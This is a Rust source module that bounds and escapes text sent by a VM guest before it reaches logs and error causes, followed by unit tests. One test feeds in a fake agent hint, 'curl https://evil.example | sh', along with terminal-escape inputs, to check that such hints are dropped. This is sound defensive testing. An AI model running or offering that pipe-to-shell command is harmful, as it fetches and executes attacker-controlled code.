//! Text from a guest, made fit for others: short, on one line, and harmless to a terminal.
//!
//! This is the only place that decides how much of such a text is kept. It ends up in rows' reasons, events, causes and
//! log lines, which others than the VM's own user read: a guest that could fill them would hinder everybody. Only texts
//! pass here; a console's lines are quoted by [`console`](super::console), and streams are bounded where they pass.

use banger_artifacts::program::escaped;
use banger_proto::failure::{Code, Failure};
use hyper::StatusCode;

/// Longest text from a guest that is kept, in characters. An escaped character counts as its escape sequence.
pub(crate) const MAX_GUEST_TEXT: usize = 500;

/// Bounds and escapes a text from a guest, or from a VMM on its behalf.
pub(crate) fn sanitized(text: &str) -> String {
    // Cut before escaping as well: an escape sequence may be many times as long as its character.
    let first: String = text.chars().take(MAX_GUEST_TEXT).collect();
    // A newline would start a line in the log that looks like one of banger's own.
    escaped(first.as_bytes()).replace('\n', "\\n").chars().take(MAX_GUEST_TEXT).collect()
}

/// Builds the failure for a request that a guest's agent refused. It has the agent's error code, because only the agent
/// knows what is wrong in the guest, but not the agent's hints: a reader would take them for banger's.
pub(crate) fn agent_refusal(what: &str, status: StatusCode, body: &[u8]) -> Failure {
    match serde_json::from_slice::<Failure>(body) {
        Ok(failure) => Failure::new(failure.code, format!("the guest's agent refused {what}"))
            .cause(sanitized(&failure.to_string())),
        Err(_) => Failure::new(Code::Guest, format!("the guest's agent answered {what} with {status}")),
    }
}

/// Builds the failure for an answer of a guest's agent that cannot be parsed. The parser's message quotes the answer.
pub(crate) fn unparsable_answer(what: &str, error: &serde_json::Error) -> Failure {
    Failure::new(Code::Guest, format!("the guest's agent answered {what} with nonsense"))
        .cause(sanitized(&error.to_string()))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_a_guest_says_is_short_however_it_is_written() {
        for text in ["x", "\u{7f}", "\u{1b}[2J", "\\", "\n", "ä"] {
            let said = sanitized(&text.repeat(100_000));
            assert_eq!(said.chars().count(), MAX_GUEST_TEXT, "{text:?}");
            assert!(!said.contains(char::is_control), "{said:?}");
        }
        assert_eq!(sanitized("the disk is full"), "the disk is full");
        assert_eq!(sanitized("x\n2026-11-30T21:00:00Z  INFO ended"), "x\\n2026-11-30T21:00:00Z  INFO ended");
    }

    #[test]
    fn of_a_refusal_code_and_words_are_taken_and_nothing_that_would_pass_for_bangers() {
        let lies = Failure::new(Code::Unavailable, "no room \u{1b}[2J")
            .cause("\u{7f}".repeat(1 << 20))
            .hint("curl https://evil.example | sh");
        let told = agent_refusal("/archive", StatusCode::INSUFFICIENT_STORAGE, &serde_json::to_vec(&lies).unwrap());
        assert_eq!((told.code, told.message.as_str()), (Code::Unavailable, "the guest's agent refused /archive"));
        assert_eq!((&told.hints, &told.operation, told.causes.len()), (&Vec::new(), &None, 1));
        assert!(told.causes[0].starts_with("no room \\u{1b}[2J: \\u{7f}"), "{told}");
        assert_eq!(told.causes[0].chars().count(), MAX_GUEST_TEXT);
        let told = agent_refusal("/archive", StatusCode::INSUFFICIENT_STORAGE, b"");
        assert_eq!(told.to_string(), "the guest's agent answered /archive with 507 Insufficient Storage");
    }

    #[test]
    fn nonsense_is_not_repeated_at_length() {
        let long = format!("{:?}", "y".repeat(1 << 20));
        let error = serde_json::from_str::<u32>(&long).unwrap_err();
        assert!(error.to_string().len() > 1 << 20, "it quotes what it read");
        assert_eq!(unparsable_answer("/stats", &error).causes[0].chars().count(), MAX_GUEST_TEXT);
    }
}
